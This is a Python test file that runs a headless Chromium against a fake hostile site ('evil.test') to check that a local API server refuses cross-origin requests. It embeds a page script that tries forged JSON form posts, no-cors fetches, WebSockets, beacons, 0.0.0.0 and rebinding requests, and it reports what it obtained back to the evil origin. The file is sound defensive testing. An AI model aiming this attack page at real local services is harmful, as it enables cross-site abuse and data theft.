# SPDX-License-Identifier: Apache-2.0
"""A real browser's pages: our own is served, others reach nothing (where a Chromium is installed)."""
import http.server
import json
import os
import shutil
import subprocess
import tempfile
import threading
import unittest

from harness import PATIENCE, SCRIPTED_SERVER, ScriptedServer, Server, ServerTest

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

# Everything a page can do without asking, and what needs a preflight; then what of it went through.
ATTACK = """<!doctype html><body><script>
const server = 'http://127.0.0.1:PORT', seen = {};
const add = (tag, more) => { const element = document.createElement(tag); Object.assign(element, more); document.body.append(element); return element; };
const attack = (name, call) => Promise.resolve().then(call).then((value) => { seen[name] = value; }, (error) => { seen[name] = 'refused'; });
const post = (more) => ({method: 'POST', body: '{"prompt": "x"}', ...more});
add('img', {src: server + '/v1/models', onload: () => { seen.img = 'loaded'; }});
add('script', {src: server + '/echo', onload: () => { seen.script = 'loaded'; }});
add('iframe', {src: server + '/page'});
add('link', {rel: 'stylesheet', href: server + '/echo'});
for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
  const frame = add('iframe', {name: enctype});
  const form = add('form', {action: server + '/v1/chat/completions', method: 'post', enctype, target: enctype});
  const field = document.createElement('input');
  field.name = '{"prompt": "';
  field.value = '"}';
  form.append(field);
  form.submit();
}
const socket = new WebSocket(server.replace('http', 'ws') + '/echo');
socket.onopen = () => { seen.socket = 'open'; };
new EventSource(server + '/slow').onmessage = () => { seen.events = 'message'; };
navigator.sendBeacon(server + '/v1/chat/completions', '{"prompt": "x"}');
Promise.all([
  attack('opaque', () => fetch(server + '/v1/chat/completions', post({mode: 'no-cors'})).then((answer) => answer.type)),
  attack('plain', () => fetch(server + '/v1/chat/completions', post({headers: {'content-type': 'text/plain'}})).then((answer) => answer.text())),
  attack('json', () => fetch(server + '/v1/chat/completions', post({headers: {'content-type': 'application/json'}})).then((answer) => answer.text())),
  attack('health', () => fetch(server + '/health').then((answer) => answer.text())),
  attack('any', () => fetch('http://0.0.0.0:PORT/health').then((answer) => answer.text())),
  attack('rebound', () => fetch('http://evil.test:PORT/health').then((answer) => answer.text())),
  new Promise((done) => setTimeout(done, 2000)),
]).then(() => fetch('/seen', {method: 'POST', body: JSON.stringify(seen)}));
</script>"""


class EvilSite(http.server.BaseHTTPRequestHandler):
    """Gives the server's `page`, and keeps in `seen` what that reports."""

    def reply(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):  # pylint: disable=invalid-name
        self.reply(self.server.page)

    def do_POST(self):  # pylint: disable=invalid-name
        self.server.seen.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.reply(b"")
        self.server.done.set()

    def log_message(self, *_):  # pylint: disable=arguments-differ
        pass


@unittest.skipUnless(CHROMIUM, "no Chromium here")
class Pages(ServerTest):
    def browse(self, url, until=None):
        """The page's elements in the end; with `until`, its event is waited for instead."""
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
            command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}",
                       "--host-resolver-rules=MAP evil.test 127.0.0.1"]
            if until is None:
                done = subprocess.run([*command, "--virtual-time-budget=5000", "--dump-dom", url], capture_output=True, text=True, timeout=PATIENCE,
                                      check=False, env=os.environ | {"HOME": profile})
                return done.stdout
            process = subprocess.Popen([*command, "--remote-debugging-port=0", url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                       env=os.environ | {"HOME": profile})
            try:
                self.assertTrue(until.wait(PATIENCE))
            finally:
                process.terminate()
                process.wait(PATIENCE)
            return None

    def test_our_own_page(self):
        for host in ("127.0.0.1", "localhost"):
            self.assertIn("<p>asked: 2</p>", self.browse(f"http://{host}:{self.server.port}/page"))

    @unittest.skipUnless(os.path.exists(SCRIPTED_SERVER), "this build has no scripted server")
    def test_the_page_of_the_whole_server(self):
        """It loads under its policy, shows the token that its address has, and markup in a string is refused."""
        with ScriptedServer({"default": "Hello."}, "--page", "test") as server:
            page = self.browse(f"{server.url}/#token={server.token}")
            self.assertIn("<p>info: 200; refused: TypeError", page)
            self.assertIn("<p>info: 401", self.browse(f"{server.url}/#token=wrong"))

    @unittest.skipUnless(os.path.exists(SCRIPTED_SERVER), "this build has no scripted server")
    def test_a_link_on_another_site(self):
        """It leads to the page, as a window and not as a frame."""
        with ScriptedServer({"default": "Hello."}, "--page", "test") as server, \
                http.server.ThreadingHTTPServer(("127.0.0.1", 0), EvilSite) as evil:
            thread = threading.Thread(target=evil.serve_forever)
            thread.start()
            try:
                aim = f"{server.url}/#token={server.token}"
                evil.page = f"<p>evil</p><script>location = '{aim}'</script>".encode()
                self.assertIn("<p>info: 200; refused: TypeError", self.browse(f"http://evil.test:{evil.server_port}/"))
                evil.page = f"<p>evil</p><iframe src='{aim}'></iframe>".encode()
                before = server.page_ask("GET", "/metrics").body
                self.assertIn("<p>evil</p>", self.browse(f"http://evil.test:{evil.server_port}/"))
                after = server.page_ask("GET", "/metrics").body
                self.assertEqual(self.answered(after), self.answered(before) + 1)  # the frame asked nothing that was let in
            finally:
                evil.shutdown()
                thread.join()

    @staticmethod
    def answered(metrics):
        return int(float(next(line.split()[1] for line in metrics.decode().splitlines() if line.startswith("thimble:requests_total "))))

    def test_a_name_that_points_here(self):
        for route in ("/page", "/health", "/echo"):
            page = self.browse(f"http://evil.test:{self.server.port}{route}")
            self.assertIn("not called", page)
            self.assertNotIn("asked", page)

    def attack(self, evil, server):
        """What a page of evil.test gets from a server."""
        evil.page, evil.seen, evil.done = ATTACK.replace("PORT", str(server.port)).encode(), {}, threading.Event()
        self.browse(f"http://evil.test:{evil.server_port}/", evil.done)
        return evil.seen

    def test_a_page_of_another_site(self):
        with http.server.ThreadingHTTPServer(("127.0.0.1", 0), EvilSite) as evil:
            thread = threading.Thread(target=evil.serve_forever)
            thread.start()
            try:
                before = self.server.counts()["submitted"]
                self.assertEqual(self.attack(evil, self.server), {name: "refused" for name in ("opaque", "plain", "json", "health", "any", "rebound")})
                self.assertEqual(self.server.counts()["submitted"], before + 1)
                # The browser had let it through: where the user allows the page, it gets what it asks for as it should.
                with Server("allow-origin", f"http://evil.test:{evil.server_port}") as trusting:
                    seen = self.attack(evil, trusting)
                self.assertIn('"bytes":15', seen.pop("json"))
                self.assertIn('"path":"/health"', seen.pop("health"))
                self.assertIn("application/json", seen.pop("plain"))  # the error, which it may read
                self.assertEqual(seen.pop("events"), "message")
                self.assertEqual(set(seen.values()), {"refused"})
            finally:
                evil.shutdown()
                thread.join()
